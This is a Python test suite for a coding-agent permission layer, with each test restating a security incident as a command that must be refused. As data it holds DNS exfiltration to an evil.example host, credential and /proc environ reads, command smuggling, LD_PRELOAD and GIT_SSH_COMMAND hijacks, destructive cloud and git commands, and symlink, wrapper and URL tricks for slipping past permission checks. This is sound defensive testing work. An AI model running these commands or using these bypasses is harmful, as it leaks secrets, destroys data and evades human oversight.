"""Security incidents of coding agents, each as a test against the permission layer: what was exploited there is
refused here. Those about trust, secrets and the network are in tests/e2e (permission, secrets, canary)."""
import json
import os
import shutil
import subprocess
import tempfile
import time
import unittest

AWL = os.environ["AWL"]


class IncidentsTest(unittest.TestCase):
    def setUp(self):
        self.root = os.path.realpath(tempfile.mkdtemp(prefix="awl-incidents-"))
        self.addCleanup(shutil.rmtree, self.root, ignore_errors=True)
        self.work = os.path.join(self.root, "proj")
        self.evil = os.path.join(self.root, "proj-evil")
        for folder in (self.work, self.evil, os.path.join(self.work, ".claude"), os.path.join(self.work, ".git")):
            os.makedirs(folder)
        for name in ("a.txt", "proj"):
            with open(os.path.join(self.work, name), "w", encoding="utf-8") as file:
                file.write("x\n")

    def write_settings(self, name, value):
        path = os.path.join(self.work if name.startswith(".claude") else self.root, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8") as file:
            json.dump(value, file)

    def verdict(self, tool, *flags, **tool_input):
        call = json.dumps({"tool": tool, "input": tool_input})
        done = subprocess.run([AWL, "policy", "explain", "--json", *flags, "--", call] if False else
                              [AWL, "policy", "explain", "--json", call, *flags], cwd=self.work, timeout=60,
                              stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False,
                              env={"PATH": "/usr/bin:/bin", "HOME": self.root})
        if done.returncode != 0 and "URL" in done.stderr:
            return "no call"
        self.assertEqual(done.returncode, 0, done.stderr)
        self.told = json.loads(done.stdout)
        return self.told["verdict"]

    def assert_refused(self, *commands, flags=()):
        for command in commands:
            self.assertNotEqual(self.verdict("Bash", *flags, command=command), "allow", command)

    def test_cve_2026_33068_a_repository_cannot_choose_the_bypass_mode(self):
        self.write_settings(".claude/settings.json", {"permissions": {"defaultMode": "bypassPermissions", "allow": ["Bash"]}})
        self.assertNotEqual(self.verdict("Bash", command="touch x"), "allow")
        self.assertEqual(self.told["mode"], "default")

    def test_cve_2025_54794_a_prefix_of_a_path_is_no_folder(self):
        self.assertNotEqual(self.verdict("Read", file_path=self.evil + "/secret"), "allow")
        self.assert_refused(f"cat {self.evil}/secret", "cat ../proj-evil/secret")
        self.assertNotEqual(self.verdict("Edit", "--permission-mode", "acceptEdits", file_path=self.evil + "/x",
                                         old_string="a", new_string="b"), "allow")

    def test_cve_2025_54795_quoting_does_not_carry_a_command(self):
        self.assert_refused("echo \"\\\"; touch x; \\\"\" ; touch x", "echo $(touch x)", "echo \"`touch x`\"")

    def test_sed_that_writes_or_runs(self):
        self.assert_refused("sed -n 'w out' a.txt", "sed 's/x/id/e' a.txt", "sed -i s/x/y/ a.txt", "sed -n '1e id' a.txt",
                            "sed --in-place s/x/y/ a.txt", "sed -f script a.txt", "sed 's/x/y/w out' a.txt")

    def test_ghsa_qgqw_find_that_runs(self):
        self.assert_refused("find . -exec touch x \\;", "find . -delete", "find . -fprint out", "find . -ok id \\;",
                            "find . -execdir id \\;", "find . -fls out")

    def test_programs_that_read_until_a_flag_makes_them_run(self):
        self.assert_refused(
            "sort -o a.txt a.txt", "sort --compress-program=./x a.txt", "git -c core.pager=./x log",
            "git --exec-path=. status", "git diff --ext-diff", "git log --output=a.txt", "git grep -Ovi x",
            "tar -cf /dev/null --to-command=id a.txt", "rsync -e ./x a.txt b.txt", "ssh -o ProxyCommand=id h",
            "awk 'BEGIN{system(\"id\")}'", "awk '{print > \"out\"}' a.txt", "awk 'BEGIN{\"id\"|getline x}'", "xargs id",
            "env -S 'id'", "less a.txt", "man -P id ls", "rg --pre ./x y", "date -s 2020-01-01", "hostname evil",
            "git fetch --upload-pack=./x", "file -C -m x", "tree -o out", "xxd -r a.txt out", "uniq a.txt out")

    def test_cve_2025_55284_name_lookups_are_network(self):
        self.assert_refused("ping -c1 secret.evil.example", "dig secret.evil.example", "host secret.evil.example",
                            "nslookup secret.evil.example", "getent hosts x.evil.example")

    def test_novee_text_tools_obey_paths_too(self):
        for tool in ("tac", "rev", "fold", "nl", "od", "xxd", "strings", "base64", "paste", "column"):
            self.assert_refused(f"{tool} /etc/passwd", f"{tool} ../proj-evil/x", f"{tool} ~/.aws/credentials")

    def test_ten_thousand_parts_do_not_hide_the_last(self):
        command = "ls && " * 10_000 + "rm -rf x"
        path = os.path.join(self.root, "long.txt")
        with open(path, "w", encoding="utf-8") as file:
            file.write("deny " + json.dumps({"tool": "Bash", "input": {"command": command}}) + "\n")
        begun = time.monotonic()
        done = subprocess.run([AWL, "policy", "test", path, "--allowedTools", "Bash", "--disallowedTools", "Bash(rm *)"],
                              cwd=self.work, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False,
                              env={"PATH": "/usr/bin:/bin", "HOME": self.root})
        self.assertEqual(done.returncode, 0, done.stdout)
        self.assertLess(time.monotonic() - begun, 20)  # no hang; bench/ has the figure

    def test_guardfall_wrappers_do_not_hide_a_denied_word(self):
        flags = ("--allowedTools", "Bash", "--disallowedTools", "Bash(rm *)")
        self.assert_refused("env rm x", "sudo rm x", "my-own-wrapper --flag rm x", "r\\m x", "'r'm x", "$(echo rm) x",
                            "/bin/rm x", "xargs rm < a.txt", "parallel rm ::: x", "nix-shell --run 'rm x'", flags=flags)

    def test_cve_2026_25724_a_link_does_not_carry_out_of_the_folder(self):
        os.symlink(self.evil, os.path.join(self.work, "link"))
        self.assertNotEqual(self.verdict("Read", file_path="link/secret"), "allow")
        self.assert_refused("cat link/secret", "ls link/", "head link/*")
        self.assertNotEqual(self.verdict("Write", "--permission-mode", "acceptEdits", file_path="link/new", content="x"),
                            "allow")
        # A rule about where it leads holds for the way there.
        os.symlink(os.path.join(self.work, "a.txt"), os.path.join(self.work, "b.txt"))
        self.assertEqual(self.verdict("Read", "--disallowedTools", "Read(./a.txt)", file_path="b.txt"), "deny")

    def test_cve_2026_25725_configuration_that_is_not_there_yet_is_protected(self):
        flags = ("--permission-mode", "acceptEdits")
        for path in (".claude/settings.json", ".claude/settings.local.json", ".claude/hooks/x.sh", ".mcp.json",
                     ".git/config", ".git/hooks/post-checkout", ".bashrc", ".vscode/tasks.json", ".idea/x.xml"):
            self.assertNotEqual(self.verdict("Write", *flags, file_path=path, content="x"), "allow", path)
            self.assert_refused(f"touch {path}", f"echo x > {path}", f"cp a.txt {path}", flags=flags)

    def test_cve_2026_54316_no_host_is_allowed_unasked(self):
        for url in ("https://docs.python.org/x", "https://github.com/evil", "http://localhost/"):
            self.assertNotEqual(self.verdict("WebFetch", url=url, prompt="x"), "allow", url)

    def test_socks5_nul_a_host_is_read_once_and_plainly(self):
        flags = ("--allowedTools", "WebFetch(domain:good.example)")
        self.assertEqual(self.verdict("WebFetch", *flags, url="https://good.example/x", prompt="x"), "allow")
        for url in ("https://good.example.evil.example/", "https://evil.example/good.example",
                    "https://good.example@evil.example/", "https://good.example\\@evil.example/",
                    "https://evil.example#good.example"):
            self.assertNotEqual(self.verdict("WebFetch", *flags, url=url, prompt="x"), "allow", url)

    def test_cve_2026_22708_assignments_are_commands_too(self):
        flags = ("--allowedTools", "Bash(git *)", "Bash(ls *)", "Bash(npm *)")
        for name in ("PATH", "LD_PRELOAD", "GIT_SSH_COMMAND", "PAGER", "BASH_ENV", "AWS_PROFILE", "GIT_EXTERNAL_DIFF"):
            self.assert_refused(f"{name}=./x git log", f"export {name}=./x; git log", f"declare -x {name}=./x && ls",
                                f"typeset -x {name}=x; ls", f"for {name} in ./x; do git log; done",
                                f"read {name} < a.txt; git log", f"printf -v {name} x; ls", flags=flags)

    def test_comment_and_control_no_process_tells_its_environment(self):
        self.assertNotEqual(self.verdict("Read", file_path="/proc/self/environ"), "allow")
        self.assert_refused("cat /proc/self/environ", "cat /proc/1/mem", "strings /proc/$PPID/environ", "cat /proc/*/environ")

    def test_destruction_needs_more_than_a_rule_for_its_program(self):
        flags = ("--allowedTools", "Bash(git *)", "Bash(aws *)", "Bash(terraform *)", "Bash(kubectl *)")
        for command in ("git push origin main", "aws s3 cp a.txt s3://b/", "terraform plan", "kubectl apply -f x.yml"):
            self.assertEqual(self.verdict("Bash", *flags, command=command), "allow", command)
        self.assert_refused(
            "git push --force origin main", "git push -f", "git push origin +main", "git push origin :main",
            "git push --mirror", "git -C . reset --hard", "git clean -xdf", "git branch -D x", "git stash clear",
            "git reflog expire --all", "git update-ref -d refs/heads/x", "aws s3 rm s3://b --recursive",
            "aws s3 sync . s3://b --delete", "aws --region us-east-1 ec2 terminate-instances --instance-ids i-1",
            "aws rds delete-db-instance --db-instance-identifier x", "aws ec2 $OPERATION", "terraform destroy",
            "terraform apply -destroy -auto-approve", "terraform state rm x", "kubectl delete ns prod",
            "kubectl -n prod delete pod x", "kubectl drain node", "kubectl scale deploy x --replicas=0",
            "sh -c 'terraform destroy'", "timeout 5 kubectl delete ns prod", flags=flags)
        self.assertEqual(self.verdict("Bash", "--allowedTools", "Bash", command="terraform destroy"), "allow")

    def test_a_rule_is_told_with_its_file_and_line(self):
        path = os.path.join(self.work, ".claude/settings.json")
        with open(path, "w", encoding="utf-8") as file:
            file.write('{\n  "permissions": {\n    "deny": ["Bash(npm publish *)"]\n  }\n}\n')
        self.assertEqual(self.verdict("Bash", command="npm publish --tag x"), "deny")
        self.assertIn("settings.json:3", self.told["reason"])


if __name__ == "__main__":
    unittest.main()
